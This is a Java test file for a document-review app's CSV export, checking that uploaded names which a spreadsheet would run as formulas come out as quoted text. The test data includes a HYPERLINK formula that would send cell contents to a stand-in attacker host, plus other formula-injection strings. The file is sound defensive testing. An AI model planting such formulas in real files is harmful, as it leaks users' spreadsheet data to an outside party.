package docket.results;

import docket.Browser;
import docket.Fixtures;
import docket.tag.Tag;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;

/** A tag list downloaded as CSV and opened in a spreadsheet runs no formula that an uploader named into it. */
@MicronautTest(transactional = false)
class CsvInjectionTest {

    @Inject
    @Client("/")
    HttpClient http;

    @Inject
    Fixtures fixtures;

    @Test
    void namesThatASpreadsheetWouldRunAsFormulasAreExportedAsText() throws Exception {
        String unique = UUID.randomUUID().toString().substring(0, 8);
        String party = "@SUM(1) " + unique;
        String member = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") " + unique;
        String document = "+1+1 " + unique;
        Fixtures.Member named = fixtures.named(party, member, document);
        Tag tag = fixtures.tag();
        long page = named.pages().get(0);
        new Browser(http).post("/api/pages/" + page + "/reviews", Map.of("tags", List.of(tag.slug())));

        String csv = http.toBlocking().retrieve("/api/tags/" + tag.slug() + "/pages?format=csv");
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();

        assertEquals(1, rows.size(), csv);
        CSVRecord row = rows.get(0);
        assertEquals("'" + party, row.get("party_name"));
        assertEquals("'" + member, row.get("member_name"));
        assertEquals("'" + document, row.get("document_title"));
        assertEquals(String.valueOf(page), row.get("page_id"), "numbers stay numbers");
        assertEquals("1", row.get("count"));
        assertEquals("1", row.get("page_number"));
    }

    @Test
    void everyCharacterThatStartsAFormulaIsNeutralisedAndOrdinaryTextIsNot() {
        for (String formula : List.of("=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")) {
            assertEquals("'" + formula, CsvExport.text(formula));
        }
        for (String plain : List.of("Jane Doe", "O'Neill", "2024 claim", "")) {
            assertEquals(plain, CsvExport.text(plain));
        }
    }
}
